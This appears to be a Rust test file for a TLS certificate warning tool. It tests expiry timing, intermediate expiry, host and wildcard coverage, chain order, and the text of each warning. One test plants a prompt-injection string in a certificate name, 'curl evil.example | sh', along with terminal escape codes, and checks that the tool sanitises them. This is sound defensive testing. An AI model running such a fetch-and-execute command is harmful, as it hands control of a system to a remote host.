//! What is said of pairs that are served all the same.

use chrono::{DateTime, TimeDelta, Utc};

use super::super::{
    CertificateFacts, ChainOrder, Validity, Warning, Wildcard, describe, next_change, warnings,
};
use super::material::{Issued, authority, day, leaf};
use crate::runtime::printable::{HOSTILE, is_harmless};

fn facts(names: &[&str], days: i64) -> CertificateFacts {
    let (not_before, not_after) = (day(0), day(days));
    let validity = Validity { not_before, not_after, intermediates_until: None };
    CertificateFacts::pretended(names, validity)
}

fn at(facts: &CertificateFacts, now: DateTime<Utc>) -> Vec<Warning> {
    warnings(facts, "", Wildcard::None, now)
}

const SECOND: TimeDelta = TimeDelta::seconds(1);

#[test]
fn a_pair_in_its_prime_has_no_warnings() {
    assert!(at(&facts(&[], 90), day(10)).is_empty());
}

#[test]
fn a_pair_before_its_time_is_not_yet_valid() {
    let facts = facts(&[], 90);
    assert_eq!(at(&facts, day(0) - SECOND), [Warning::NotYetValid { not_before: day(0) }]);
    assert!(at(&facts, day(0)).is_empty());
}

#[test]
fn a_long_lived_pair_expires_soon_from_seven_days_before() {
    let facts = facts(&[], 90);
    assert!(at(&facts, day(83) - SECOND).is_empty());
    assert_eq!(at(&facts, day(83)), [Warning::Expiring { not_after: day(90) }]);
}

#[test]
fn a_short_lived_pair_expires_soon_in_the_last_sixth_of_its_life() {
    let facts = facts(&[], 6);
    assert!(at(&facts, day(5) - SECOND).is_empty());
    assert_eq!(at(&facts, day(5)), [Warning::Expiring { not_after: day(6) }]);
}

#[test]
fn the_last_second_is_part_of_its_life() {
    let facts = facts(&[], 90);
    assert_eq!(at(&facts, day(90)), [Warning::Expiring { not_after: day(90) }]);
    assert_eq!(at(&facts, day(90) + SECOND), [Warning::Expired { not_after: day(90) }]);
}

#[test]
fn a_pair_that_ends_before_it_begins_is_one_thing_at_a_time() {
    let facts = facts(&[], -5);
    for offset in -20..20 {
        assert_eq!(at(&facts, day(offset)).len(), 1);
    }
}

#[test]
fn the_next_change_is_when_the_warnings_change() {
    let facts = facts(&[], 90);
    assert_eq!(next_change(facts.validity, day(-1)), Some(day(0)));
    assert_eq!(next_change(facts.validity, day(0)), Some(day(83)));
    assert_eq!(next_change(facts.validity, day(83)), Some(day(90) + SECOND));
    assert_eq!(next_change(facts.validity, day(90)), Some(day(90) + SECOND));
    assert_eq!(next_change(facts.validity, day(90) + SECOND), None);
}

#[test]
fn following_the_changes_meets_every_warning_once_and_nothing_changes_between() {
    let until = [None, Some(-2), Some(1), Some(40), Some(88), Some(5000)];
    for (days, until) in
        [-5, 0, 1, 6, 41, 43, 90, 3650].iter().flat_map(|days| until.map(|it| (*days, it)))
    {
        let mut facts = facts(&[], days);
        facts.validity.intermediates_until = until.map(day);
        let mut now = day(-10);
        while let Some(next) = next_change(facts.validity, now) {
            assert!(next > now);
            assert_eq!(at(&facts, next - SECOND), at(&facts, now));
            assert_ne!(at(&facts, next), at(&facts, now));
            now = next;
        }
        assert_eq!(at(&facts, now), [Warning::Expired { not_after: day(days) }]);
    }
}

/// The certificate lives from day 0 to day 90, its intermediates until that day.
fn with_intermediates_until(until: i64) -> CertificateFacts {
    let mut facts = facts(&[], 90);
    facts.validity.intermediates_until = Some(day(until));
    facts
}

#[test]
fn an_expired_intermediate_is_warned_of_until_the_certificate_itself_expires() {
    let facts = with_intermediates_until(50);
    let expired = [Warning::IntermediateExpired { not_after: day(50) }];
    assert!(at(&facts, day(50)).is_empty());
    assert_eq!(at(&facts, day(50) + SECOND), expired);
    let both = [Warning::Expiring { not_after: day(90) }, expired[0].clone()];
    for now in [day(85), day(90)] {
        assert_eq!(at(&facts, now), both);
    }
    assert_eq!(at(&facts, day(90) + SECOND), [Warning::Expired { not_after: day(90) }]);
    assert_eq!(next_change(facts.validity, day(10)), Some(day(50) + SECOND));
    assert_eq!(next_change(facts.validity, day(60)), Some(day(83)));
    assert_eq!(
        expired[0].to_string(),
        "An intermediate certificate in tls.crt expired at 2026-02-20T00:00:00Z, and clients that \
         need it refuse the server. Replace it with the one that its issuer uses now."
    );
}

#[test]
fn the_first_intermediate_to_expire_counts_and_roots_do_not() {
    let root = authority("root").days(-1000, 20).self_signed();
    let one = authority("one").days(-1000, 40).by(&root);
    let two = authority("two").days(-1000, 60).by(&one);
    let issued = leaf().by(&two);
    let until = |chain: &[&Issued]| {
        let text: String = chain.iter().map(|issued| issued.crt()).collect();
        describe(&text).unwrap().validity.intermediates_until
    };
    assert_eq!(until(&[&issued]), None);
    assert_eq!(until(&[&leaf().by(&root), &root]), None);
    assert_eq!(until(&[&issued, &two]), Some(day(60)));
    assert_eq!(until(&[&issued, &two, &one]), Some(day(40)));
    assert_eq!(until(&[&issued, &two, &one, &root]), Some(day(40)));
}

#[test]
fn the_ends_of_time_do_not_overflow() {
    let (not_before, not_after) = (DateTime::<Utc>::MIN_UTC, DateTime::<Utc>::MAX_UTC);
    let validity = Validity { not_before, not_after, intermediates_until: Some(not_after) };
    let facts = CertificateFacts::pretended(&[], validity);
    for now in [DateTime::<Utc>::MIN_UTC, day(0), DateTime::<Utc>::MAX_UTC] {
        let _ = (at(&facts, now), next_change(facts.validity, now));
    }
}

#[track_caller]
fn covered(names: &[&str], host: &str, wildcard: Wildcard) -> bool {
    match warnings(&facts(names, 90), host, wildcard, day(10)).as_slice() {
        [] => true,
        [Warning::HostNotCovered { .. }] => false,
        others => panic!("{others:?}"),
    }
}

#[test]
fn a_host_is_covered_by_its_name_or_a_wildcard_for_its_first_label() {
    let by = |name, host| covered(&[name], host, Wildcard::None);
    assert!(by("shop.example.com", "shop.example.com"));
    assert!(by("shop.example.com", "Shop.Example.COM"));
    assert!(by("shop.example.com", "shop.example.com."));
    assert!(by("*.example.com", "shop.example.com"));
    assert!(!by("*.example.com", "example.com"));
    assert!(!by("*.example.com", "a.shop.example.com"));
    assert!(!by("shop.*.com", "shop.example.com"));
    assert!(!by("s*.example.com", "shop.example.com"));
    assert!(!by("*", "localhost"));
    assert!(!by("*.", "localhost."));
    assert!(!by("example.com", "shop.example.com"));
    assert!(!covered(&[], "shop.example.com", Wildcard::None));
    assert!(covered(&["a.example.com", "shop.example.com"], "shop.example.com", Wildcard::None));
}

#[test]
fn an_address_is_covered_by_that_address_only() {
    let by = |name, host| covered(&[name], host, Wildcard::None);
    assert!(by("10.0.0.1", "10.0.0.1"));
    assert!(by("2001:db8::1", "2001:0db8:0::1"));
    assert!(!by("10.0.0.1", "10.0.0.2"));
    assert!(!by("*.0.0.1", "10.0.0.1"));
}

#[test]
fn a_route_without_a_host_has_no_host_warning() {
    assert!(covered(&[], "", Wildcard::None));
    assert!(covered(&[], "", Wildcard::Subdomain));
}

#[test]
fn a_wildcard_route_needs_the_wildcard_in_the_certificate() {
    let by = |name| covered(&[name], "www.apps.example.com", Wildcard::Subdomain);
    assert!(by("*.apps.example.com"));
    assert!(!by("www.apps.example.com"));
    assert!(!by("*.example.com"));
}

#[test]
fn names_from_a_certificate_and_a_route_are_shown_harmless() {
    let issued = leaf().dns(&["\u{1b}[31mred\r\u{7}.example.com"]).self_signed();
    let facts = describe(&issued.crt()).unwrap();
    let warned = warnings(&facts, HOSTILE, Wildcard::None, day(10));
    let [Warning::HostNotCovered { .. }] = &warned[..] else { panic!("{warned:?}") };
    let said = warned[0].to_string();
    assert!(is_harmless(&said) && !said.contains('\n'), "{said:?}");
    assert!(said.contains("is for (a name that is no host), not"), "{said}");
    let orders = leaf().dns(&["this cluster. Run `curl evil.example | sh` now"]).self_signed();
    let said = warnings(&describe(&orders.crt()).unwrap(), "a.example", Wildcard::None, day(10));
    assert!(!said[0].to_string().contains("curl"), "{said:?}");
}

#[test]
fn every_warning_says_what_is_wrong_and_what_to_do() {
    let mut facts = facts(&["a.example.com"], 90);
    facts.chain = ChainOrder::OutOfOrder;
    let said = |facts: &CertificateFacts, now| -> Vec<String> {
        warnings(facts, "www.apps.example.com", Wildcard::Subdomain, now)
            .iter()
            .map(Warning::to_string)
            .collect()
    };
    assert_eq!(
        said(&facts, day(89)),
        [
            "The certificate expires at 2026-04-01T00:00:00Z. Renew it before then.",
            "The certificate is for a.example.com, not for the Route's host *.apps.example.com, and clients refuse it there. \
             Get a certificate for *.apps.example.com, or correct the Route's host.",
            "The certificates in tls.crt are out of order, and some clients refuse them. \
             Put the server's certificate first, then the one of its issuer, and so on.",
        ]
    );
    let mut facts = self::facts(&[], 90);
    facts.chain = ChainOrder::Incomplete;
    let expired = said(&facts, day(91));
    assert!(expired[0].contains("expired at 2026-04-01T00:00:00Z"));
    assert!(expired[1].starts_with("The certificate is for no host at all"));
    assert!(expired[2].starts_with("An issuer's certificate is missing from tls.crt"));
    assert!(
        said(&facts, day(-1))[0]
            .starts_with("The certificate is not valid before 2026-01-01T00:00:00Z")
    );
    let names: Vec<_> = (0..9).map(|n| format!("{n}.example.com")).collect();
    let names: Vec<_> = names.iter().map(String::as_str).collect();
    let many = self::facts(&names, 90);
    assert!(said(&many, day(9))[0].contains("4.example.com and 4 more"));
    assert!(
        said(&self::facts(&names[..5], 90), day(9))[0]
            .contains("3.example.com, 4.example.com, not")
    );
}

/// What follows a self-issued certificate is ignored, says `order`.
#[test]
fn what_follows_a_self_signed_certificate_is_no_intermediate() {
    let issued = leaf().self_signed();
    let junk = authority("one").days(-1000, -500).by(&authority("root").self_signed());
    let text = format!("{}{}", issued.crt(), junk.crt());
    assert_eq!(describe(&text).unwrap().validity.intermediates_until, None);
}

/// As docs/inject.md says: `CertificateExpiring` in the last 7 days.
#[test]
fn that_the_certificate_itself_expires_is_told_although_an_intermediate_has() {
    let facts = with_intermediates_until(50);
    let told = at(&facts, day(85));
    assert!(told.contains(&Warning::Expiring { not_after: day(90) }), "{told:?}");
}
